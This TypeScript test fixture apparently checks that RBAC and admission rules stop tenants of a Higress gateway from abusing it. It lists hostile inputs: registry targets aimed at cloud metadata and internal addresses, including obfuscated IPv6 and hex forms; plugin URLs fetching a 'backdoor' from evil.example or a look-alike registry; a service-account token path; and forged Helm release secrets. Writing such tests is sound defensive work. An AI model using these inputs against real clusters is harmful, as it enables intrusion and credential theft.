/** Leading the gateway elsewhere, and loading code into it. */
import type { Manifest } from "../../vectors/vector.ts";
import { create, entry, made, other, own, patch, place, remove, rewrite, seize, type Attempt } from "./attempt.ts";

const higress = "networking.higress.io/v1";
const extensions = "extensions.higress.io/v1alpha1";
const bridge = place(higress, "mcpbridges", own, "default");

const registry = (type: string, domain: string) => ({ type, name: "stolen", domain, port: 443 });

/** As the controller writes: it may update its McpBridge, to add the port of a proxy. */
const leadTo = (type: string, domain: string) =>
  rewrite(bridge, (object: Manifest) => ({ ...object, spec: { registries: [registry(type, domain)] } }));

const led = { as: "controller", stoppedBy: { admission: "bridge" } } as const;
const rails = { as: "editor", stoppedBy: { admission: "guard-rails" } } as const;
const plugins = { as: "editor", stoppedBy: { admission: "wasm-plugin" } } as const;

const plugin = (url: string, more: object = {}) =>
  create(place(extensions, "wasmplugins", own), made(extensions, "WasmPlugin", { spec: { url, ...more } }));
const hub = "oci://registry.example.com/mirror/plugins";

export const attempts: readonly Attempt[] = [
  {
    tries: "leads its registry to the API server's Service",
    ...led,
    request: leadTo("dns", "kubernetes.default.svc.cluster.local"),
  },
  { tries: "leads its registry to the API server's address", ...led, request: leadTo("static", "192.0.2.1:443") },
  { tries: "leads its registry to a Service's address", ...led, request: leadTo("static", "10.96.0.1:443") },
  { tries: "leads its registry to the gateway's own machine", ...led, request: leadTo("static", "127.0.0.1:15000") },
  { tries: "leads its registry to localhost", ...led, request: leadTo("dns", "localhost") },
  { tries: "leads its registry to the cloud's metadata", ...led, request: leadTo("static", "169.254.169.254:80") },
  {
    tries: "leads its registry to the cloud's metadata as IPv4 in IPv6",
    ...led,
    request: leadTo("static", "[::ffff:169.254.169.254]:80"),
  },
  {
    tries: "leads its registry to the cloud's metadata as IPv4 in the digits of IPv6",
    ...led,
    request: leadTo("static", "[::ffff:a9fe:a9fe]:80"),
  },
  { tries: "leads its registry to the machine by a short form", ...led, request: leadTo("dns", "0x7f.1") },
  {
    tries: "leads its registry to the cloud's metadata by name",
    ...led,
    request: leadTo("dns", "Metadata.Google.Internal."),
  },
  {
    tries: "leads its registry to another tenant's gateway",
    ...led,
    request: leadTo("dns", `higress-gateway.${other}.svc.cluster.local`),
  },
  {
    tries: "leads its registry to another tenant's gateway by a short name",
    ...led,
    request: leadTo("dns", `higress-gateway.${other}`),
  },
  {
    tries: "leads its registry to its own control plane",
    ...led,
    request: leadTo("dns", `higress-controller.${own}.svc`),
  },
  {
    tries: "makes another McpBridge",
    as: "controller",
    stoppedBy: "RBAC",
    request: create(place(higress, "mcpbridges", own), made(higress, "McpBridge", { spec: { registries: [] } })),
  },
  { tries: "deletes its McpBridge", as: "operator", stoppedBy: "RBAC", request: remove(bridge) },
  { tries: "deletes its McpBridge", ...rails, request: remove(bridge) },
  {
    tries: "takes the fields of its McpBridge from the platform, so that its next run conflicts",
    ...rails,
    request: seize(bridge, made(higress, "McpBridge", { spec: { registries: [] } }, { name: "default" })),
  },
  {
    tries: "changes the entry's McpBridge",
    as: "controller",
    stoppedBy: "RBAC",
    request: patch(place(higress, "mcpbridges", entry, "default"), { spec: { registries: [] } }),
  },
  { tries: "loads a plugin", as: "controller", stoppedBy: "RBAC", request: plugin(`${hub}/basic-auth:1.0.0`) },
  { tries: "loads a plugin from a foreign registry", ...plugins, request: plugin("oci://evil.example/backdoor:1.0.0") },
  {
    tries: "loads a plugin from a registry whose name begins like the fleet's",
    ...plugins,
    request: plugin("oci://registry.example.com.evil.example/mirror/backdoor:1.0.0"),
  },
  { tries: "loads a plugin from the gateway's own disk", ...plugins, request: plugin("file:///var/run/secrets/token") },
  { tries: "loads a plugin of which the code may change", ...plugins, request: plugin(`${hub}/basic-auth:latest`) },
  {
    tries: "pulls a plugin with another tenant's Secret",
    ...plugins,
    request: plugin(`${hub}/basic-auth:1.0.0`, { imagePullSecret: `${other}/registry` }),
  },
  {
    tries: "loads a plugin into the entry",
    as: "editor",
    stoppedBy: "RBAC",
    request: create(
      place(extensions, "wasmplugins", entry),
      made(extensions, "WasmPlugin", { spec: { url: `${hub}/a:1` } }),
    ),
  },
  {
    tries: "rewrites the configuration of its own gateway",
    as: "controller",
    stoppedBy: { admission: "guard-rails" },
    request: rewrite(place("v1", "configmaps", own, "higress-config"), (object) => ({ ...object, data: {} })),
  },
  {
    tries: "takes its own gateway down",
    as: "editor",
    stoppedBy: { limit: "ClusterRole edit deletes and scales the tenant's own gateway; no other tenant notices" },
    request: remove(place("apps/v1", "deployments", own, "higress-gateway")),
  },
  {
    tries: "forges what Helm remembers of the release, to have the platform delete other objects",
    as: "controller",
    stoppedBy: { admission: "guard-rails" },
    request: create(
      place("v1", "secrets", own),
      made("v1", "Secret", { type: "helm.sh/release.v1" }, { name: "sh.helm.release.v1.higress.v9" }),
    ),
  },
  {
    tries: "forges what Helm remembers of the release by its labels",
    ...rails,
    request: create(
      place("v1", "secrets", own),
      made("v1", "Secret", {}, { labels: { owner: "helm", name: "higress", status: "deployed", version: "9" } }),
    ),
  },
  {
    tries: "deletes what Helm remembers of the release",
    ...rails,
    request: remove(place("v1", "secrets", own, "sh.helm.release.v1.higress.v1")),
  },
  {
    tries: "has Helm keep its gateway for ever by an annotation",
    as: "editor",
    stoppedBy: { nothing: "Helm reads helm.sh/resource-policy in its own record alone" },
    request: patch(place("apps/v1", "deployments", own, "higress-gateway"), {
      metadata: { annotations: { "helm.sh/resource-policy": "keep" } },
    }),
  },
];
